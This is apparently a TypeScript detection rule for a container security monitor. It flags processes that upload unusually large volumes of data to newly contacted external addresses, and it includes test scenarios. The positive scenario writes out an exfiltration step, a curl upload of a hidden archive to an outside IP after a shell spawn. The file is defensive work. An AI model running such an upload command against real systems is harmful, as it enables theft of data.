import type { Connection } from '../../model/connection.js';
import type { Process } from '../../model/process.js';
import type { Call } from '../calls.js';
import { commandedRows, levelBelow } from '../commanded.js';
import type { Draft } from '../draft.js';
import { seconds } from '../lineage.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { amount, command, connectionEvidence, destination, processEvidence, span } from '../wording.js';

/** What a process sent to an address in all. */
interface Volume {
  readonly processId: number;
  readonly ip: string;
  readonly sent: number;
  readonly received: number;
  readonly count: number;
  readonly firstUs: number;
  readonly lastUs: number;
  /** The first of them. */
  readonly connectionIds: readonly number[];
}

const MEGABYTE = 1_000_000;
const CONNECTIONS_SHOWN = 10;

export const uploadVolume = defineRule({
  id: 'upload-volume',
  title: 'Much data sent to a new place outside',
  description:
    'A process sends much more than it receives to an address outside that nothing in its container had called during the first minutes of what was ' +
    'seen of it. Answering callers is not counted, and what a container sends to the same place all along is its work, as is what the host itself sends.',
  level: 'high',
  stage: 'consequence',
  attack: ['T1048', 'T1041'],
  needs: ['connections'],
  options: {
    megabytes: { value: 10, description: 'Sent by one process to one address in all.' },
    ratio: { value: 10, description: 'How many times what it received.' },
    knownSeconds: { value: 300, description: 'An address called this early after the start of the container belongs to its work.' },
  },
  falsePositives: [
    'Backups and log shippers that begin late or to a new address.',
    'A registry or an object store behind changing addresses.',
  ],
  *run({ view, option, stories, calls }) {
    const commanded = commandedRows(stories);
    const known = new Set<string>();
    const large: { readonly volume: Volume; readonly place: string }[] = [];
    for (const volume of volumesOf(calls({ isExternal: true }))) {
      const process = view.outline(volume.processId);
      if (process?.containerId === undefined) continue;
      const place = `${process.containerId} ${volume.ip}`;
      const startUs = view.container(process.containerId)?.startedAtUs;
      if (startUs !== undefined && volume.firstUs - startUs <= seconds(option('knownSeconds'))) known.add(place);
      const isLarge = volume.sent >= option('megabytes') * MEGABYTE && volume.sent >= volume.received * option('ratio');
      if (isLarge) large.push({ volume, place });
    }
    for (const { volume, place } of large) {
      const process = view.process(volume.processId);
      if (process === undefined || known.has(place)) continue;
      const connections = volume.connectionIds.flatMap((id) => view.connection(id) ?? []);
      yield { ...draft(process, volume, connections), level: levelBelow(commanded, process.id, 'medium') };
    }
  },
  hits: [
    scenario(
      'curl sends an archive to an address that the service never called',
      `
      container web
      0       node server.js
      5         > tcp 203.0.113.20:443 sent 900 received 4000 until 6
      1200      sh -c "…"
      1200.1      curl -T /tmp/.c.gz http://203.0.113.9:8443/
      1200.2        > tcp 203.0.113.9:8443 sent 52000000 received 300 until 1230
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a log shipper sends to the same place all along',
      `
      container shipper
      0       fluent-bit
      5         > tcp 203.0.113.20:443 sent 40000000 received 4000 until 600
      600       > tcp 203.0.113.20:443 sent 90000000 received 4000 until 1200
    `,
    ),
    scenario(
      'a service downloads much',
      `
      container web
      0       node server.js
      1200      curl -O http://203.0.113.9/big
      1200.1      > tcp 203.0.113.9:80 sent 300 received 90000000 until 1230
    `,
    ),
    scenario(
      'a nightly backup goes to a new address, which is worth a look and no more',
      `
      container backup
      0       crond -f
      7200      rclone sync /data remote:bucket
      7201        > tcp 203.0.113.40:443 sent 90000000 received 20000 until 7300
    `,
    ),
  ],
});

/** What each process sent to each address, process after process. */
function* volumesOf(calls: Iterable<Call>): Generator<Volume> {
  let own = new Map<string, Volume>();
  let processId: number | undefined;
  for (const call of calls) {
    if (call.processId !== processId) {
      yield* own.values();
      own = new Map();
      processId = call.processId;
    }
    own.set(call.ip, withCall(own.get(call.ip), call));
  }
  yield* own.values();
}

/** The volume with one call more; calls come by time. */
function withCall(volume: Volume | undefined, { processId, ip, connectionId, atUs, bytesSent, bytesReceived }: Call): Volume {
  const { sent = 0, received = 0, count = 0, firstUs = atUs, connectionIds = [] } = volume ?? {};
  return {
    processId,
    ip,
    sent: sent + bytesSent,
    received: received + bytesReceived,
    count: count + 1,
    firstUs,
    lastUs: atUs,
    connectionIds: connectionIds.length < CONNECTIONS_SHOWN ? [...connectionIds, connectionId] : connectionIds,
  };
}

function draft(process: Process, volume: Volume, connections: readonly Connection[]): Omit<Draft, 'level'> {
  const { ip, sent, received, count, firstUs, lastUs } = volume;
  const [first] = connections;
  const place = first === undefined ? ip : destination(first);
  return {
    title: `${command(process)} sent ${amount(sent)} to ${place}`,
    why: `${command(process)} (pid ${process.pid}) sent ${amount(sent)} to ${place} and received ${amount(received)}; its container had not called that address before its first minutes were over.`,
    process,
    ...span(firstUs, lastUs, ...connections.map((one) => one.closedAtUs)),
    count,
    connections,
    related: [],
    evidence: [
      ...processEvidence(process),
      ...connections.flatMap((one) =>
        connectionEvidence(one, `pid ${process.pid} connected to ${destination(one)}, ${amount(one.bytesSent ?? 0)} sent`),
      ),
    ],
    members: [process.id],
  };
}
